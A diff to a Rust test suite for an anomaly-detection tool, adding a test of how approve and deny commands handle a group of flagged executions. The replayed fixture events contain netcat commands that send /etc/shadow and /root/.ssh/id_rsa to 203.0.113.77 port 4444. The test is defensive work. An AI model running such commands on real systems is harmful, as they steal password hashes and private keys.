@@ -148,7 +148,7 @@ fn what_is_denied_stays_novel_and_can_be_taken_back() {
     }
     fed.end();
     let id = json(&data, &["held", "--state", "denied"])[0]["id"].as_str().expect("an id").to_owned();
-    told(&data, &["approve", &id]);
+    told(&data, &["approve", &id, "--state", "denied"]);
     let mut again = Fed::start(&folder, &data, "again");
     assert_eq!(score(&again.sees(exfiltration("web").at(20.0 * DAY))), 0.0);
     again.end();
@@ -156,6 +156,42 @@ fn what_is_denied_stays_novel_and_can_be_taken_back() {
     let told: Vec<_> =
         history.as_array().expect("an array").iter().map(|line| (&line["action"], &line["why"])).collect();
     assert_eq!(told, [(&"deny".into(), &"incident 4711".into()), (&"approve".into(), &"".into())]);
+}
+
+#[test]
+fn a_group_means_what_was_shown_of_it() {
+    let folder = Folder::new();
+    let data = database(&folder);
+    let id = only_id(&data);
+    told(&data, &["approve", &id]);
+    let others = ["/etc/shadow", "/root/.ssh/id_rsa"].map(|file| {
+        let args = ["sh", "-c", &format!("nc -w 3 203.0.113.77 4444 < {file}")].map(str::to_owned);
+        exfiltration("web").with("args", args.to_vec()).at(7.5 * DAY)
+    });
+    let recording = folder.recording("others.jsonl", &others);
+    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
+    let held = json(&data, &["held"]);
+    assert_eq!((&held[0]["id"], &held[0]["executions"]), (&Value::from(id.as_str()), &2.into()), "{held}");
+
+    // One more than was shown, one is denied, and what is held of it is no longer what was shown.
+    let refused = |arguments: &[&str]| {
+        let ran = run(&mut anomalyctl(&data, arguments));
+        assert_eq!(ran.status.code(), Some(2), "{}", ran.err);
+        ran.err
+    };
+    let said = refused(&["approve", &id, "--executions", "1"]);
+    assert!(said.contains("2 executions") && said.contains("nothing is touched"), "{said}");
+    assert_eq!(
+        json(&data, &["deny", &id, "--executions", "2"])["executions"].as_array().map(Vec::len),
+        Some(2)
+    );
+    // The same once more does not deny what is normal.
+    let said = refused(&["deny", &id]);
+    assert!(said.contains("2 denied") && said.contains("--state"), "{said}");
+    let count = |state: &str| json(&data, &["held", "--state", state, "--each"]).as_array().map(Vec::len);
+    assert_eq!(count("denied"), Some(2));
+    let approved = json(&data, &["approve", &id, "--state", "denied", "--dry-run"]);
+    assert_eq!(approved["executions"].as_array().map(Vec::len), Some(2), "{approved}");
 }
 
 #[test]
